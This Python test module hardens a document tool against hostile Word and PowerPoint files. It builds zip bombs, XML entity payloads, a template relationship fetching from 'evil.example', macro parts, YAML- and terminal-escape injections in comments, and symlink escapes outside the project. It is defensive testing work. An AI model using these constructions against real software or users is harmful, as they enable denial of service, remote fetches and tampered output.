"""Finished files that somebody sends back, for the commands that read them: audit, pull, status, redline, issue."""

# ruff: noqa: E501  (tables: an entry is a line)
from __future__ import annotations

import re
import zipfile
from collections.abc import Callable, Iterator
from io import BytesIO
from pathlib import Path

from attack import Attack
from attacks_on_packages import ENTITY, MAKERS
from attacks_on_paths import DEVICE, folder_elsewhere, linked, outside, pipe
from laying import MADE, both, made, put, repacked, standing, swap

FILES = {like: f"out/case/{name}" for like, name in MADE.items()}
PAPER, DECK = FILES.values()
W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
MAIN, SLIDE, SHOW = "word/document.xml", "ppt/slides/slide3.xml", "ppt/presentation.xml"
HUGE = "9" * 5_000
PULL = ("--yes", "--accept", "--comments")
WRITES = {"audit": (), "pull": ("outlines/",), "status": (), "redline": ("out/",), "issue": ("outlines/issued/",)}
REFUSES = r"^out/case/\S+:1:1: error: the file cannot be read: "
# what the door refuses, by its name among the attacks on looks: for the first command all, for the others some
DOOR = ("bomb", "lying-size", "many-parts", "crowded", "climbing", "twice", "empty", "text", "empty-zip", "cut-short",
        "behind-something", "old-office", "encrypted", "styles-broken", "doctype", "doctype-utf-16", "doctype-hidden",
        "doctype-types", "doctype-rels", "deep", "deeper")  # fmt: skip
SOME = ("bomb", "text", "encrypted", "doctype-hidden", "deeper", "crowded")


def asked(command: str, file: str) -> tuple[str, ...]:
    """A command, as a user gives it."""
    more = {"pull": PULL, "issue": ("--as", "v2"), "status": ("--verbose",)}.get(command, ())
    return (command, "outlines/case.yaml" if command == "status" else file, *more)


def at_the_door() -> Iterator[Attack]:
    """What is no sound package: one clear problem, whatever the command."""
    for like, file in FILES.items():
        for command in ("audit", "pull", "redline", "issue"):
            for name in DOOR if command == "audit" else SOME:
                make = MAKERS[name][0]
                lay = standing(like, lambda make=make, like=like: make(like))
                yield Attack(
                    f"{command}-{like}-{name}", lay, REFUSES, arguments=asked(command, file), writes=WRITES[command]
                )
        for name in SOME:  # status goes on to the next file
            make = MAKERS[name][0]
            lay = standing(like, lambda make=make, like=like: make(like))
            yield Attack(f"status-{like}-{name}", lay, warns=f"{MADE[like]}: the file cannot be read: ",
                         arguments=asked("status", file), writes=(), makes=False)  # fmt: skip


def sub(pattern: str, new: str, count: int = 0) -> Callable[[bytes], bytes]:
    """Change what a pattern finds in a part, where it must be found."""

    def change(data: bytes) -> bytes:
        out, n = re.subn(pattern.encode(), new.encode(), data, count=count, flags=re.DOTALL)
        assert n, f"{pattern!r} is not in the part"
        return out

    return change


def paper(change: Callable[[bytes], bytes] | bytes | None, part: str = MAIN) -> Callable[[], bytes]:
    return lambda: repacked(
        made("briefing"), {part: change} if not isinstance(change, bytes) else {part: lambda _: change}
    )


def deck(change: Callable[[bytes], bytes] | bytes | None, part: str = SLIDE) -> Callable[[], bytes]:
    return lambda: repacked(
        made("seminar"), {part: change} if not isinstance(change, bytes) else {part: lambda _: change}
    )


def ended(xml: str) -> Callable[[bytes], bytes]:
    """More of a document, at its end."""
    return sub("</w:body>", f"{xml}</w:body>")


def lines(change: Callable[[bytes], bytes]) -> Callable[[], bytes]:
    """Changes the part that says which bookmark is which line, and what it said."""

    def make() -> bytes:
        data = made("briefing")
        with zipfile.ZipFile(BytesIO(data)) as package:
            name = next(n for n in package.namelist() if b"urn:collate:lines" in package.read(n))
        return repacked(data, {name: change})

    return make


def everywhere(data: bytes) -> bytes:
    """Comments and instructions between all elements of all parts."""
    with zipfile.ZipFile(BytesIO(data)) as package:
        parts = [name for name in package.namelist() if name.endswith((".xml", ".rels"))]
    between = sub(r"(</[^>]+>|<[A-Za-z][^>]*[^/]>)(?=<)", r"\1<!--x--><?x y?>")
    return repacked(data, {name: lambda d: between(d) if b"><" in d else d for name in parts})


def comments(xml: str) -> Callable[[], bytes]:
    """A Word file with these comments; number 7 hangs on a judgement."""
    kind = "application/vnd.openxmlformats-officedocument.wordprocessingml.comments+xml"

    def make() -> bytes:
        hung = (
            '<w:commentRangeStart w:id="7"/>\\1<w:commentRangeEnd w:id="7"/><w:r><w:commentReference w:id="7"/></w:r>'
        )
        return repacked(made("briefing"), {
            MAIN: sub(r"(<w:r>(?:(?!</w:r>).)*两文都认为.*?</w:r>)", hung, 1),
            "[Content_Types].xml": swap(b"</Types>", f'<Override PartName="/word/comments.xml" ContentType="{kind}"/></Types>'.encode()),
            "word/_rels/document.xml.rels": swap(b"</Relationships>", f'<Relationship Id="rIdC" Type="{OFFICE}/comments" Target="comments.xml"/></Relationships>'.encode()),
        }, {"word/comments.xml": f'<w:comments xmlns:w="{W}">{xml}</w:comments>'.encode()})  # fmt: skip

    return make


def comment(author: str = "a", date: str = "2031-01-01", words: str = "x", number: str = "7") -> str:
    return f'<w:comment w:id="{number}" w:author="{author}" w:date="{date}"><w:p><w:r><w:t>{words}</w:t></w:r></w:p></w:comment>'


def tracked(
    author: str = "a", date: str = "2031-01-01T00:00:00Z", number: str = "1", times: int = 1
) -> Callable[[], bytes]:
    ins = f'<w:ins w:id="{number}" w:author="{author}" w:date="{date}">'
    return paper(sub(r"(<w:r>(?:(?!</w:r>).)*</w:r>)", ins * times + r"\1" + "</w:ins>" * times, 20))


def workbook(change: Callable[[bytes], bytes]) -> Callable[[], bytes]:
    return paper(change, "word/embeddings/Microsoft_Excel_Sheet1.xlsx")


def bombed(book: bytes) -> bytes:
    out = BytesIO(book)
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as new, new.open("xl/evil.bin", "w", force_zip64=True) as part:
        for _ in range(300):
            part.write(bytes(1_000_000))
    return out.getvalue()


RELS = "http://schemas.openxmlformats.org/package/2006/relationships"
INSIDE: dict[str, tuple[str, Callable[[], bytes]]] = {
    # Word
    "paper-between": ("briefing", lambda: everywhere(made("briefing"))),
    "paper-numbers": ("briefing", paper(sub(r'(<w:bookmark(?:Start|End)[^>]* w:id=")\d+', rf"\g<1>{HUGE}"))),
    "paper-wide": ("briefing", paper(sub("<w:tcPr>", '<w:tcPr><w:gridSpan w:val="999999999"/>'))),
    "paper-wide-row": ("briefing", paper(sub("<w:trPr>", '<w:trPr><w:gridBefore w:val="999999999"/>'))),
    "paper-column": ("briefing", paper(sub(r'<w:gridCol w:w="\d+"', '<w:gridCol w:w="1e999"'))),
    "paper-no-grid": ("briefing", paper(sub("<w:tblGrid>.*?</w:tblGrid>", ""))),
    "paper-page": ("briefing", paper(sub(r"<w:pgSz [^>]*>", f'<w:pgSz w:w="{HUGE}" w:h="nan"/>'))),
    "paper-style-circle": ("briefing", paper(sub(r'<w:basedOn w:val="[^"]*"/>', '<w:basedOn w:val="Heading1"/>'), "word/styles.xml")),
    "paper-size": ("briefing", paper(sub(r'<w:sz w:val="\d+"/>', '<w:sz w:val="1e400"/>'), "word/styles.xml")),
    "paper-level": ("briefing", paper(sub("<w:pPr>", f'<w:pPr><w:numPr><w:ilvl w:val="99999999"/><w:numId w:val="{HUGE}"/></w:numPr>'))),
    "paper-empty-tables": ("briefing", paper(ended("<w:tbl/><w:tbl><w:tr/></w:tbl><w:tbl><w:tr><w:tc/></w:tr></w:tbl><w:p/>"))),
    "paper-deep-tables": ("briefing", paper(ended("<w:tbl><w:tr><w:tc>" * 60 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 60))),
    "paper-no-body": ("briefing", paper(f'<w:document xmlns:w="{W}"/>'.encode())),
    "paper-bare-marks": ("briefing", paper(sub(r"<w:bookmarkStart [^>]*>", "<w:bookmarkStart/>"))),
    "paper-no-ends": ("briefing", paper(sub(r"<w:bookmarkEnd [^>]*>", ""))),
    "paper-marks": ("briefing", paper(ended("".join(f'<w:bookmarkStart w:id="{n}" w:name="_c_{n}"/>' for n in range(50_000))))),
    "paper-relations": ("briefing", paper(f'<Relationships xmlns="{RELS}"><Relationship/><Relationship Id="rId1"/><Relationship Target="../../../x" Id="rId2" Type="/styles"/></Relationships>'.encode(), "word/_rels/document.xml.rels")),
    "paper-own-notes": ("briefing", paper(swap(b"</Relationships>", b'<Relationship Id="e1" Type="x/footnotes" Target="document.xml"/><Relationship Id="e2" Type="x/comments" Target="document.xml"/></Relationships>'), "word/_rels/document.xml.rels")),
    "paper-types": ("briefing", paper(b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override/><Default/></Types>', "[Content_Types].xml")),
    "paper-day": ("briefing", paper(sub(r"(<dcterms:modified[^>]*>)[^<]*", r"\g<1>9999-99-99T99:99:99Z"), "docProps/core.xml")),
    "paper-book-bomb": ("briefing", workbook(bombed)),
    "paper-book-text": ("briefing", workbook(lambda d: b"evil")),
    "paper-book-doctype": ("briefing", workbook(lambda d: repacked(d, {"xl/worksheets/sheet1.xml": swap(b"?>", b"?>" + ENTITY)}))),
    "paper-chart": ("briefing", paper(sub(r'idx="\d+"', 'idx="999999999"'), "word/charts/chart1.xml")),
    "paper-chart-count": ("briefing", paper(sub(r'ptCount val="\d+"', f'ptCount val="{HUGE}"'), "word/charts/chart1.xml")),
    "paper-chart-bare": ("briefing", paper(b'<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart"/>', "word/charts/chart1.xml")),
    # the words of lines that the file itself keeps
    "lines-many": ("briefing", lines(sub("</lines>", '<line bookmark="_c_x" id="evil">x</line>' * 200_000 + "</lines>"))),
    "lines-bad": ("briefing", lines(sub("</lines>", '<!--x--><?x?><line/><line bookmark="" id=""><line/></line><x/></lines>'))),
    "lines-ids": ("briefing", lines(sub(r' id="[^"]*"', ' id="../../x@@//..~~@zh"'))),
    "lines-same": ("briefing", lines(sub(r'bookmark="[^"]*"', 'bookmark="_c_same"'))),
    # what reviewers leave
    "tracked-day": ("briefing", tracked(date="99999999999-99-99T99:99:99Z", number="x" + HUGE)),
    "tracked-ours": ("briefing", tracked("Collate")),
    "tracked-deep": ("briefing", tracked(times=80)),
    "tracked-bare": ("briefing", paper(sub("<w:body>", "<w:body><w:ins><w:p/></w:ins><w:del><w:p><w:r><w:t>x</w:t></w:r></w:p></w:del>"))),
    "tracked-ends": ("briefing", paper(sub("</w:pPr>", '<w:rPr><w:del w:id="1" w:author="a"/><w:ins w:id="2" w:author="b"/></w:rPr></w:pPr>'))),
    "comments-day": ("briefing", comments(comment(date=HUGE))),
    "comments-numbers": ("briefing", comments(f'<w:comment w:id="{HUGE}"/><w:comment/><!--x-->' + comment("Collate"))),
    "comments-many": ("briefing", comments(comment() * 40_000)),
    # PowerPoint
    "deck-between": ("seminar", lambda: everywhere(made("seminar"))),
    "deck-place": ("seminar", deck(sub(r"<a:off [^>]*>", '<a:off x="1e400" y="nan"/>'))),
    "deck-no-place": ("seminar", deck(sub(r"<a:off [^>]*>", "<a:off/>"))),
    "deck-extent": ("seminar", deck(sub(r"<a:ext c[^>]*>", f'<a:ext cx="{"9" * 400}" cy="0"/>'))),
    "deck-groups": ("seminar", deck(sub("</p:spTree>", "<p:grpSp><p:nvGrpSpPr/><p:grpSpPr/>" * 90 + "</p:grpSp>" * 90 + "</p:spTree>"))),
    "deck-bare-shapes": ("seminar", deck(sub("</p:spTree>", "<p:sp/><p:graphicFrame/><p:pic/><p:cxnSp/><p:grpSp/></p:spTree>"))),
    "deck-no-tree": ("seminar", deck(sub("<p:cSld.*</p:cSld>", "<p:cSld/>"))),
    "deck-other-slide": ("seminar", deck(b"<x/>")),
    "deck-no-relations": ("seminar", deck(None, "ppt/slides/_rels/slide3.xml.rels")),
    "deck-own-relations": ("seminar", deck(sub('Target="[^"]*"', 'Target="slide3.xml"'), "ppt/slides/_rels/slide3.xml.rels")),
    "deck-own-layout": ("seminar", deck(sub('Target="[^"]*"', 'Target="slideLayout1.xml"'), "ppt/slideLayouts/_rels/slideLayout1.xml.rels")),
    "deck-shown": ("seminar", deck(sub(r'<p:sldId [^>]*?r:id="([^"]*)"[^>]*>', r'\g<0>' + "".join(rf'<p:sldId id="{9_000 + n}" r:id="\1"/>' for n in range(4_000)), 1), SHOW)),
    "deck-missing": ("seminar", deck(sub(r"(<p:sldId [^>]*/>)", r'<p:sldId/><p:sldId id="x" r:id="rId9999"/>\1', 1), SHOW)),
    "deck-size": ("seminar", deck(sub(r"<p:sldSz [^>]*>", '<p:sldSz cx="0" cy="x"/>'), SHOW)),
    "deck-names": ("seminar", deck(sub(r'(<p:cNvPr [^>]*name=")[^"]*', rf'\g<1>../../x@zh/..~~{"x" * 5_000}'))),
    "deck-numbers": ("seminar", deck(sub(r'(<p:cNvPr [^>]*id=")[^"]*', rf"\g<1>{HUGE}"))),
    "deck-notes": ("seminar", deck(b'<p:notes xmlns:p="http://schemas.openxmlformats.org/presentationml/2006/main"/>', "ppt/notesSlides/notesSlide1.xml")),
}  # fmt: skip


def inside() -> Iterator[Attack]:
    """Sound packages with something in them that nobody wrote by hand: no command may stumble over it."""
    for name, (like, make) in INSIDE.items():
        for command in ("audit", "pull", "redline"):
            yield Attack(f"{command}-{name}", standing(like, make, edited=True), arguments=asked(command, FILES[like]),
                         code=None, makes=None, marked=True, writes=("out/",) if command == "redline" else ("outlines/",))  # fmt: skip


def said(out: Path) -> bytes:
    return b"".join(path.read_bytes() for path in (out.parent / "outlines").rglob("*.yaml"))


def no_line(out: Path) -> None:
    """Whatever people write in the margin stays behind the # of a comment, in one line."""
    text = said(out).decode("utf-8")
    found = [line for line in text.splitlines() if "evil" in line and not line.lstrip().startswith("# ")]
    assert not found, found


def no_act(out: Path) -> None:
    """Nothing that a terminal or a reader would be led astray by has come into the outline."""
    text = said(out).decode("utf-8")
    assert not re.search("[\x85\x9b\u202e\u2028]", text)


TALK = comment(
    "a&#10;evil: []&#10;# b", "2031&#10;evil: 2", "x&#10;evil: 3 \u2028evil: {} \u0085evil: 5 \u202e\u009b31m"
)
OUTSIDE = r":1:1: error: .* lies outside the project"


def secret(project: Path) -> Path:
    return outside(project, "evil.docx", made("briefing"))


WORDS = (
    Attack("pull-comment-is-no-yaml", standing(data=comments(TALK)), arguments=asked("pull", PAPER), code=None, makes=True,
           writes=("outlines/",), marked=True, holds=lambda out: (no_line(out), no_act(out))),
    Attack("audit-control", standing(data=paper(sub(r"(<w:t[^>]*>)", "\\1\u0085\u009b31m\u202e\u2028"))), arguments=asked("audit", PAPER),
           code=1, makes=False, writes=()),
    Attack("pull-control", standing(data=paper(sub(r"(<w:t[^>]*>)", "\\1\u0085\u009b31m\u202e\u2028"))), arguments=asked("pull", PAPER),
           code=3, makes=False, writes=("outlines/",), holds=no_act),
    Attack("pull-control-deck", standing("seminar", deck(sub("(<a:t>)", "\\1\u0085\u009b31m\u202e\u2028"))), arguments=asked("pull", DECK),
           code=None, makes=None, writes=("outlines/",), holds=no_act),
    Attack("pull-many-authors", standing(data=paper(ended("".join(f'<w:p><w:ins w:id="{n}" w:author="a{n}"><w:r><w:t>evil</w:t></w:r></w:ins></w:p>' for n in range(3_000))))),
           r"^out/case/briefing\.zh\.docx:1:1: error: .*changes by more than \d+ authors", arguments=asked("pull", PAPER), writes=()),
    Attack("issue-macros", standing(data=lambda: repacked(made("briefing"), more={"word/vbaProject.bin": b"evil"})),
           arguments=asked("issue", PAPER), code=1, warns="not issued: .*the file holds macros", makes=False, writes=("outlines/issued/",)),
    Attack("issue-fetches", standing(data=paper(swap(b"</Relationships>", f'<Relationship Id="rIdE" Type="{OFFICE}/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'.encode()), "word/_rels/document.xml.rels")),
           arguments=asked("issue", PAPER), code=1, warns="not issued: .*it fetches", makes=False, writes=("outlines/issued/",)),
    Attack("issue-linked", both(standing(), linked("outlines/issued", folder_elsewhere)), OUTSIDE,
           arguments=asked("issue", PAPER), writes=("outlines/issued/",)),
    Attack("issue-file-linked", both(standing(), linked(PAPER, secret)), OUTSIDE, arguments=asked("issue", PAPER), writes=("outlines/issued/",)),
    Attack("redline-linked", both(standing(data=tracked()), linked("out/case/since-v1", folder_elsewhere)), OUTSIDE,
           arguments=asked("redline", PAPER)),
    Attack("redline-notes-linked", both(standing(data=tracked()), linked("out/case/since-v1/.collate", folder_elsewhere)), OUTSIDE,
           arguments=asked("redline", PAPER)),
    Attack("redline-notes-lie", both(standing(data=tracked()), put("out/case/since-v1/.collate/briefing.zh.docx.json", '{"wrote": {"evil": []}}'),
           put("out/case/since-v1/briefing.zh.docx", "mine")), r"since-v1/briefing\.zh\.docx:1:1: error: somebody has worked on this copy", arguments=asked("redline", PAPER)),
    Attack("redline-since-text", both(standing(), lambda p: (p / "evil.docx").write_bytes(b"evil")), r"^evil\.docx:1:1: error: the file cannot be read",
           arguments=("redline", PAPER, "--since", "evil.docx")),
    *(Attack(f"{command}-{name}", both(standing(), lay), says, arguments=asked(command, PAPER), writes=())
      for command in ("audit", "pull") for name, lay, says in (
          ("device", linked(PAPER, lambda _: DEVICE), r":1:1: error: (the file is no file|no such file)"),
          ("pipe", pipe(PAPER), r":1:1: error: (the file is no file|no such file)"),
          ("folder", lambda p: ((p / PAPER).unlink(), (p / PAPER).mkdir()), r":1:1: error: (the file is no file|no such file|cannot be read)"))),
    *(Attack(f"status-{name}", both(standing(), lay), warns=r"briefing\.zh\.docx: the file (is no file|lies outside)", makes=False,
             arguments=asked("status", PAPER), writes=())
      for name, lay in (("device", linked(PAPER, lambda _: DEVICE)), ("pipe", pipe(PAPER)), ("linked", linked(PAPER, secret)),
                        ("folder", lambda p: ((p / PAPER).unlink(), (p / PAPER).mkdir())))),
)  # fmt: skip

ATTACKS = (*at_the_door(), *inside(), *WORDS)
